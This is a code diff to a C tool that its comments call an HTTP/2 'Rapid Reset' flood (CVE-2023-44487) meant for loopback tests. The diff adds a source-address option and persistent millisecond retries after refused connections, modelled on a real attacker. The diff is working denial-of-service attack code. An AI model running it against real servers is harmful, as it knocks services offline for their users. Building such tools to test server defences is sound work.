@@ -1,7 +1,8 @@
 /*
  * rapid_reset: an HTTP/2 "Rapid Reset" flood (CVE-2023-44487) for tests.
  *
- *   rapid_reset [--raw] [--path P] [--method M] [--open] [--reconnect] HOST PORT SECONDS
+ *   rapid_reset [--raw] [--path P] [--method M] [--open] [--reconnect] [--bind ADDR]
+ *               HOST PORT SECONDS
  *
  * Opens one TLS connection (ALPN h2, certificate not verified: loopback
  * tests only) and, for SECONDS, sends HEADERS (a complete GET /healthz by
@@ -23,7 +24,11 @@
  * block is the same): the attacker a real one would write.
  *
  * When the server closes the connection (GOAWAY, a TLS or TCP error), the
- * run ends, or with --reconnect a new connection continues it.
+ * run ends, or with --reconnect a new connection continues it; a new
+ * connection the server refuses is counted (refused=) and tried again a
+ * millisecond later until the time is up, as an attacker would. --bind sets
+ * the source address (127.0.0.2: an attacker apart from the loopback
+ * clients of the same test).
  *
  * Prints one line of key=value figures:
  *   streams=N resets=N seconds=S rate=N/s connections=N goaway=N
@@ -82,6 +87,8 @@ struct rr {
 	/* figures */
 	unsigned long long streams, resets, server_rst, responses, goaways, bytes_in;
 	unsigned connections;
+	unsigned refused;
+	const char *bind;
 	uint32_t goaway_error;
 };
 
@@ -412,8 +419,22 @@ static int rr_connect(struct rr *rr)
 		return -1;
 	}
 	rr->fd = socket(res->ai_family, SOCK_STREAM, 0);
+	if (rr->fd >= 0 && rr->bind != NULL) {
+		struct addrinfo *src = NULL;
+		struct addrinfo bh = {.ai_socktype = SOCK_STREAM, .ai_family = res->ai_family};
+		if (getaddrinfo(rr->bind, "0", &bh, &src) != 0 || src == NULL ||
+		    bind(rr->fd, src->ai_addr, src->ai_addrlen) != 0) {
+			fprintf(stderr, "rapid_reset: cannot bind to %s\n", rr->bind);
+			if (src != NULL)
+				freeaddrinfo(src);
+			freeaddrinfo(res);
+			return -1;
+		}
+		freeaddrinfo(src);
+	}
 	if (rr->fd < 0 || connect(rr->fd, res->ai_addr, res->ai_addrlen) != 0) {
-		fprintf(stderr, "rapid_reset: connect: %s\n", strerror(errno));
+		if (rr->connections == 0) /* later refusals are counted, not printed */
+			fprintf(stderr, "rapid_reset: connect: %s\n", strerror(errno));
 		freeaddrinfo(res);
 		return -1;
 	}
@@ -424,8 +445,11 @@ static int rr_connect(struct rr *rr)
 	SSL_set_fd(rr->ssl, rr->fd);
 	SSL_set_tlsext_host_name(rr->ssl, "localhost");
 	if (SSL_connect(rr->ssl) != 1) {
-		fprintf(stderr, "rapid_reset: TLS handshake failed\n");
-		ERR_print_errors_fp(stderr);
+		if (rr->connections == 0) {
+			fprintf(stderr, "rapid_reset: TLS handshake failed\n");
+			ERR_print_errors_fp(stderr);
+		}
+		ERR_clear_error();
 		return -1;
 	}
 	const unsigned char *alpn = NULL;
@@ -509,6 +533,8 @@ int main(int argc, char **argv)
 			rr.method = argv[++i];
 		else if (strcmp(argv[i], "--reconnect") == 0)
 			reconnect = true;
+		else if (strcmp(argv[i], "--bind") == 0 && i + 1 < argc)
+			rr.bind = argv[++i];
 		else if (strcmp(argv[i], "--open") == 0)
 			rr.open = true;
 		else if (strcmp(argv[i], "--raw") == 0)
@@ -518,7 +544,7 @@ int main(int argc, char **argv)
 	}
 	if (argc - i != 3) {
 		fprintf(stderr, "usage: rapid_reset [--raw] [--path P] [--method M] [--open] "
-				"[--reconnect] HOST PORT SECONDS\n");
+				"[--reconnect] [--bind ADDR] HOST PORT SECONDS\n");
 		return 2;
 	}
 	rr.host = argv[i];
@@ -550,8 +576,12 @@ int main(int argc, char **argv)
 				break;
 			rr_close(&rr);
 			if (rr_connect(&rr) < 0) {
-				rr.end = "reconnect failed";
-				break;
+				rr.refused++;
+				rr.end = "reconnect refused";
+				rr.dead = true;
+				struct timespec ms = {.tv_nsec = 1000000};
+				nanosleep(&ms, NULL);
+				continue;
 			}
 			rr.end = "time is up";
 		}
@@ -584,10 +614,11 @@ int main(int argc, char **argv)
 		poll(&p, 1, blocked ? 10 : 0);
 	}
 	double took = rr_now() - start;
-	printf("streams=%llu resets=%llu seconds=%.2f rate=%.0f/s connections=%u goaway=%llu "
-	       "goaway_error=%u server_rst=%llu responses=%llu bytes_in=%llu end=\"%s\"\n",
+	printf("streams=%llu resets=%llu seconds=%.2f rate=%.0f/s connections=%u refused=%u "
+	       "goaway=%llu goaway_error=%u server_rst=%llu responses=%llu bytes_in=%llu "
+	       "end=\"%s\"\n",
 	       rr.streams, rr.resets, took, took > 0 ? (double)rr.streams / took : 0.0,
-	       rr.connections, rr.goaways, rr.goaway_error, rr.server_rst, rr.responses,
+	       rr.connections, rr.refused, rr.goaways, rr.goaway_error, rr.server_rst, rr.responses,
 	       rr.bytes_in, rr.end);
 	fflush(stdout);
 	rr_close(&rr);
